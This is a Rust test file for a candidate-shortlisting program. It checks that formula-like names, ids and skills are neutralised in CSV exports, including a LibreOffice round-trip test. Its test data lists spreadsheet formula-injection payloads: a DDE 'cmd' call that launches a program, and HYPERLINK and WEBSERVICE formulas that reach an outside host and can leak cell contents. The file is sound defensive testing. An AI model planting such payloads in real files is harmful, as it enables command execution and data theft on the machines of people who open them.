//! No text of a candidate becomes a formula.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use candor::shortlist::Cut;

use super::{Csv, Run, run, sample};

const PROFILE: &str = r#"
candor = 1
id = "seller"
title = "Seller"
[[must]]
education = "higher"
[[must]]
experience = { in = "sales", at_least = "1 year" }
[[nice]]
id = "name"
skill = { any_of = ["negotiation"] }
"#;

/// Names that a spreadsheet could run, and the words that are near to a skill.
const NAMES: &[&str] = &[
    "=HYPERLINK(\"http://example.com?\"&A1;\"x\")",
    "=1+2\";=1+2",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "＝1+1",
    "＋1",
    "=WEBSERVICE(\"http://example.com\")",
    "Anna \"=1+1\" Nowak",
    "O'Neill, Jane",
];

/// People whose names, ids and skills are formulas.
fn planted(folder: &Path) -> Run {
    let file = folder.join("=1+1.csv");
    let mut csv = csv::Writer::from_path(&file).expect("a file");
    csv.write_record(["Candidate ID", "Full name", "Education", "Years in sales", "Skills"]).expect("a row");
    for (index, name) in NAMES.iter().enumerate() {
        let id = format!("=A{index}+1");
        let row =
            [id.as_str(), name, "master's degree", "2", if index % 2 == 0 { "=negotiatoin" } else { "negotiatoin" }];
        csv.write_record(row).expect("a row");
    }
    csv.flush().expect("a file");
    drop(csv);
    run(PROFILE, &[file], Cut::default())
}

#[test]
fn names_that_are_formulas_are_guarded_in_csv_and_raw_in_json() {
    let folder = tempfile::tempdir().expect("a folder");
    let run = planted(folder.path());
    let (csv, json) = (run.csv(), run.json());
    assert_eq!(csv.rows.len(), NAMES.len());
    for (row, entry) in csv.rows.iter().zip(json["shortlist"].as_array().expect("a list")) {
        for cell in row {
            let seen = cell.trim_start_matches(|c: char| c.is_whitespace() || "\u{200b}\u{feff}".contains(c));
            assert!(!seen.starts_with(['=', '+', '-', '@', '＝', '＋']), "{cell:?}");
        }
        let guarded = |cell: &str, raw: &str| cell == raw || cell.strip_prefix('\'') == Some(raw);
        assert!(guarded(&row[1], entry["id"].as_str().expect("text")));
        assert!(guarded(&row[2], entry["name"].as_str().expect("text")));
    }
    assert!(csv.rows.iter().all(|row| row[1].starts_with("'=A")), "ids are guarded too");
}

#[test]
fn a_requirement_named_like_another_column_has_a_heading_of_its_own() {
    let folder = tempfile::tempdir().expect("a folder");
    let csv = planted(folder.path()).csv();
    assert_eq!(csv.headings[6..9], ["education-higher", "experience-sales", "requirement:name"]);
}

/// The program, if it is installed. Where everything must be checked, it must be.
fn libreoffice() -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    let found = std::env::split_paths(&path)
        .flat_map(|folder| ["soffice", "libreoffice"].map(|name| folder.join(name)))
        .find(|program| program.is_file());
    assert!(found.is_some() || std::env::var_os("CI").is_none(), "CI needs LibreOffice (libreoffice-calc)");
    found
}

/// Opens files as `LibreOffice` does for a person who double-clicks them, and saves them in a format.
fn convert(program: &Path, folder: &Path, files: &[PathBuf], to: &str) {
    let home = format!("-env:UserInstallation=file://{}", folder.join("office").display());
    let mut command = Command::new(program);
    // Commas, double quotes, UTF-8, from row 1 on.
    command.args([&home, "--headless", "--infilter=CSV:44,34,76,1", "--convert-to", to, "--outdir"]).arg(folder);
    let output = command.args(files).output().expect("LibreOffice runs");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
}

#[test]
#[allow(clippy::print_stderr)] // what is skipped is said
fn libreoffice_reads_every_column_and_no_formula() {
    let Some(program) = libreoffice() else {
        eprintln!("skipped: LibreOffice is not installed");
        return;
    };
    let folder = tempfile::tempdir().expect("a folder");
    let (planted, sample) = (planted(folder.path()), sample());
    let runs = [("planted", &planted), ("sample", &sample)];
    let file = |name: &str, extension: &str| folder.path().join(name).with_extension(extension);
    for (name, run) in runs {
        fs::write(file(name, "csv"), run.bytes("csv")).expect("a file");
    }
    // An unguarded formula, to be sure that one would be seen.
    fs::write(file("control", "csv"), "name\r\n=1+1\r\n").expect("a file");
    let names = ["planted", "sample", "control"];
    convert(&program, folder.path(), &names.map(|name| file(name, "csv")), "fods");
    let has_formulas = |name: &str| {
        let sheet = fs::read_to_string(file(name, "fods")).expect("a flat sheet");
        assert!(sheet.contains("<table:table-cell"));
        sheet.contains("table:formula")
    };
    assert!(has_formulas("control"));
    // Back into CSV, over the first one.
    let sheets = runs.map(|(name, _)| file(name, "fods"));
    convert(&program, folder.path(), &sheets, "csv:Text - txt - csv (StarCalc):44,34,76,1");
    for (name, run) in runs {
        assert!(!has_formulas(name), "{name}");
        let (written, read) = (run.csv(), Csv::read(&fs::read(file(name, "csv")).expect("a file")));
        assert_eq!(read.headings, written.headings, "{name}");
        for heading in ["standing", "to_ask", "near", "source"] {
            assert_eq!(read.column(heading), written.column(heading), "{name}");
        }
        for heading in ["rank", "score", "score_max"] {
            let numbers = |csv: &Csv| -> Vec<f64> {
                csv.column(heading).iter().map(|text| text.parse().expect("a number")).collect()
            };
            assert_eq!(numbers(&read), numbers(&written), "{name}");
        }
    }
}
